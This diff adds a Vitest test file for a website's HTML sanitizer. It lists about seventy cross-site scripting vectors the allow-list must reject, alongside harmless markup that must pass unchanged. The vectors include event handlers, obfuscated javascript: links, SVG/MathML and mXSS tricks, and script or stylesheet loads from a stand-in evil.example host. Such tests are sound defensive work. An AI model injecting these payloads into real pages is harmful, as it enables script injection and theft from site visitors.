@@ -1,0 +1,159 @@
+import { describe, expect, it } from 'vitest'
+import { ALLOWED_TAGS, nestingProblems, SAFE_HREF, sanitizeMarkup, toMarkupBlocks, unsafeMarkupChanges, type MarkupNode } from './markup.ts'
+
+/** Markup an editor could paste that must never reach a page: the content check rejects each one. */
+const hostileVectors: string[] = [
+  // event handlers
+  '<b onclick="alert(1)">x</b>',
+  '<i onmouseover=alert(1)>x</i>',
+  '<a href="/ai/x" onfocus="alert(1)" autofocus>x</a>',
+  '<p onpointerenter="alert(1)">x</p>',
+  '<strong ONCLICK="alert(1)">x</strong>',
+  '<em onanimationstart=alert(1) style="animation:x">x</em>',
+  '<li onclick=alert(1)>x</li>',
+  '<ul onkeydown="alert(1)"><li>x</li></ul>',
+  '<img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror="alert(1)">',
+  '<input autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  // script-bearing elements
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script type="module">import("//evil.example")</script>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel="stylesheet" href="//evil.example/x.css">',
+  '<style>*{background:url(javascript:alert(1))}</style>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  // URL schemes
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="//evil.example">protocol-relative</a>',
+  '<a href="/\\evil.example">backslash</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="ftp://evil.example">x</a>',
+  '<a href="\u2028javascript:alert(1)">x</a>',
+  '<a href="https://ok.example" target="_blank">x</a>',
+  '<a href="/x" style="position:fixed;inset:0">overlay</a>',
+  '<a href="/x" id="login">clobber</a>',
+  '<a href="/x" name="location">clobber</a>',
+  // SVG and MathML
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+  // mXSS shapes
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mi><table><mi><style><img src=x onerror=alert(1)></style>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
+  '<a href="/x"><!--</a><img src=x onerror=alert(1)>--></a>',
+  '<b title="x&quot; onclick=&quot;alert(1)">x</b>',
+  '<![CDATA[><img src=x onerror=alert(1)>]]>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  // attributes outside the allow-list
+  '<b data-x="1">x</b>',
+  '<p aria-hidden="true">x</p>',
+  '<em class="x">x</em>',
+]
+
+const allowedTags = new Set<string>(ALLOWED_TAGS)
+
+/** Every element is on the allow-list, carries only href/rel, and every href is safe. */
+function expectOnlyAllowed(nodes: MarkupNode[]) {
+  for (const node of nodes) {
+    if (typeof node === 'string') continue
+    const [tag, attrs, ...children] = node
+    expect(allowedTags.has(tag), `<${tag}> reached the page`).toBe(true)
+    for (const [name, value] of Object.entries(attrs || {})) {
+      expect(['href', 'rel']).toContain(name)
+      if (name === 'href') expect(value).toMatch(SAFE_HREF)
+    }
+    expectOnlyAllowed(children)
+  }
+}
+
+/** Markup editors really write: it must pass unchanged. */
+const harmless: [string, string][] = [
+  ['Plain text', 'Plain text'],
+  ['<b>bold</b> and <strong>strong</strong>', '<b>bold</b> and <strong>strong</strong>'],
+  ['<i>italic</i> and <em>emphasis</em>', '<i>italic</i> and <em>emphasis</em>'],
+  ['Line<br>break', 'Line<br>break'],
+  ['Self-closed<br/>break', 'Self-closed<br>break'],
+  ['<a href="/ai/Ai-Development">AI development</a>', '<a href="/ai/Ai-Development">AI development</a>'],
+  ['<a href="https://www.example.com/contact">contact</a>', '<a href="https://www.example.com/contact">contact</a>'],
+  ['<a href="http://example.com">http</a>', '<a href="http://example.com">http</a>'],
+  ['<a href="mailto:hello@example.com">mail</a>', '<a href="mailto:hello@example.com">mail</a>'],
+  ['<a href="tel:+14155550142">call</a>', '<a href="tel:+14155550142">call</a>'],
+  ['<a href="#faq">FAQ</a>', '<a href="#faq">FAQ</a>'],
+  ['<a href="/blog?page=2">blog</a>', '<a href="/blog?page=2">blog</a>'],
+  ['<ul><li>one</li><li>two</li></ul>', '<ul><li>one</li><li>two</li></ul>'],
+  ['<ol><li>first</li><li>second</li></ol>', '<ol><li>first</li><li>second</li></ol>'],
+  ['<p>A paragraph</p><p>Another</p>', '<p>A paragraph</p><p>Another</p>'],
+  ['Costs &amp; timelines', 'Costs &amp; timelines'],
+  ['Fees from $10,000 &mdash; fixed', 'Fees from $10,000 — fixed'],
+  ['5 &lt; 6 and 7 > 2', '5 &lt; 6 and 7 &gt; 2'],
+  ['<b><i>nested</i> inline</b>', '<b><i>nested</i> inline</b>'],
+  ['<ul><li><b>Pilot:</b> 4-6 weeks</li><li><a href="/ai/Ai-Consulting">consulting</a></li></ul>', '<ul><li><b>Pilot:</b> 4-6 weeks</li><li><a href="/ai/Ai-Consulting">consulting</a></li></ul>'],
+  ['Quotes "double" and \'single\'', 'Quotes "double" and \'single\''],
+  ['Unicode: café, naïve, 24/7 ✓', 'Unicode: café, naïve, 24/7 ✓'],
+]
+
+describe('markup allow-list', () => {
+  it('holds at least 60 hostile vectors', () => expect(hostileVectors.length).toBeGreaterThanOrEqual(60))
+
+  it.each(hostileVectors)('rejects %s', (html) => {
+    const rejected = unsafeMarkupChanges(html).length > 0 || nestingProblems(html).length > 0
+    expect(rejected).toBe(true)
+  })
+
+  it.each(hostileVectors)('leaves only allowed elements and safe links of %s', (html) => {
+    expectOnlyAllowed(toMarkupBlocks(html))
+  })
+
+  it.each(harmless)('passes %s unchanged', (html, serialized) => {
+    expect(unsafeMarkupChanges(html)).toEqual([])
+    expect(nestingProblems(html)).toEqual([])
+    expect(sanitizeMarkup(html).html).toBe(serialized)
+  })
+})
+
+describe('markup blocks', () => {
+  it('wraps inline markup in a paragraph', () => {
+    expect(toMarkupBlocks('Hi <b>there</b>')).toEqual([['p', 0, 'Hi ', ['b', 0, 'there']]])
+  })
+  it('keeps a list as its own block', () => {
+    expect(toMarkupBlocks('<ul><li>a</li></ul>')).toEqual([['ul', 0, ['li', 0, 'a']]])
+  })
+  it('marks external links noopener noreferrer and leaves site links alone', () => {
+    expect(toMarkupBlocks('<a href="https://x.example">x</a> <a href="/blog">b</a>')).toEqual([
+      ['p', 0, ['a', { href: 'https://x.example', rel: 'noopener noreferrer' }, 'x'], ' ', ['a', { href: '/blog' }, 'b']],
+    ])
+  })
+  it('decodes entities into text, which React escapes again', () => {
+    expect(toMarkupBlocks('R&amp;D &lt;b&gt;')).toEqual([['p', 0, 'R&D <b>']])
+  })
+})
